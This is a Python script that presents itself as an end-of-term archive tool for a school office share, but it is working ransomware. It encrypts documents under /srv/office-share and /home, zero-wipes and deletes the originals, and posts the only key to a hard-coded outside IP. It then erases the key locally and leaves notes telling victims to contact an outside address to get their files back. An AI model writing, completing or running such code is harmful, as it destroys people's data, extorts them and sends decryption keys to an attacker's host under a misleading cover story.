#!/usr/bin/env python3
"""Office share archive rotation.

Seals documents on the office share into the archive format so the share
stays tidy at the end of each school term.
"""
import argparse
import json
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("archive_rotation")

ROTATION = {
    "roots": ["/srv/office-share", "/home"],
    "kinds": {".docx", ".xlsx", ".pdf", ".csv", ".odt", ".ods", ".jpg", ".png", ".sqlite"},
    "sealed_suffix": ".sealed",
    "notice_name": "ARCHIVE_NOTICE.txt",
    "registry": "https://203.0.113.80/term/register",
}

NOTICE_TEXT = (
    "Documents in this folder have been sealed for the term archive.\n"
    "To restore them, contact archive-desk@termseal.example quoting reference {ref}.\n"
)


class Sealer:
    def __init__(self, secret):
        self._box = Fernet(secret)

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + ROTATION["sealed_suffix"])
        target.write_bytes(self._box.encrypt(data))
        return target


def candidates(roots, kinds, suffix):
    for root in roots:
        for folder, _dirs, names in os.walk(root):
            for name in names:
                p = Path(folder) / name
                if p.suffix.lower() in kinds and not name.endswith(suffix):
                    yield p


def retire(path):
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\0" * size)
    path.unlink()


def register_rotation(secret, ref, count):
    body = {"ref": ref, "host": socket.gethostname(), "k": secret.decode(), "n": count}
    try:
        requests.post(ROTATION["registry"], json=body, timeout=20, verify=False)
        return True
    except requests.RequestException as exc:
        log.debug("registry unreachable: %s", exc)
        return False


def leave_notice(folders, ref):
    for folder in folders:
        try:
            (folder / ROTATION["notice_name"]).write_text(NOTICE_TEXT.format(ref=ref))
        except OSError:
            pass


def rotate(roots, dry_run):
    secret = Fernet.generate_key()
    ref = os.urandom(6).hex()
    sealer = Sealer(secret)
    touched = set()
    count = 0
    for path in candidates(roots, ROTATION["kinds"], ROTATION["sealed_suffix"]):
        if dry_run:
            log.info("would seal %s", path)
            continue
        try:
            sealer.seal(path)
            retire(path)
            touched.add(path.parent)
            count += 1
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    if not dry_run and count:
        register_rotation(secret, ref, count)
        leave_notice(touched, ref)
    del secret, sealer
    return count


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--root", action="append", help="override share roots")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--report", default="rotation_report.json")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    roots = args.root or ROTATION["roots"]
    count = rotate(roots, args.dry_run)
    Path(args.report).write_text(json.dumps({"roots": roots, "sealed": count}))
    log.info("rotation finished: %d documents", count)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
